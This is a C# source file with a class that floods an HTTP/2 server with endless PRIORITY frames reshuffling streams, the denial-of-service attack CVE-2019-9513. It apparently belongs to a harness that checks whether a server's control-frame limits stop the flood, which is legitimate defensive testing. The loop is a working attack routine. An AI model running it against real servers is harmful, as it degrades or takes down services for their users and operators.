namespace Metering.Attacks;

/// <summary>
/// Moves streams about in the tree of priorities without end, which a server that keeps one pays for. CVE-2019-9513;
/// the tree is deprecated by RFC 9113, section 5.3.
/// </summary>
internal sealed class PriorityFlood : Attack
{
    private const byte PriorityType = 2;

    public override string Name => "priority-flood";

    public override string Does => "PRIORITY frames that move streams about (CVE-2019-9513)";

    public override IReadOnlyList<string> MetBy => ["ControlFrames", "ControlFramesPerSecond"];

    public override string Unit => "frames";

    public override double UnitsPerSecond => 50_000;

    public override bool IsCutOff => true;

    public override async Task AttackAsync(AttackLane lane)
    {
        await using AttackConnection connection = await lane.OpenHttp2Async();
        var batch = new FrameBatch();
        int turn = 0;
        while (true)
            await lane.SendAsync(connection, batch, most: 1000, frames => frames.Add(PriorityType, 0, 1 + (2 * (++turn % 100)), [0, 0, 0, 0, (byte)turn]));
    }
}
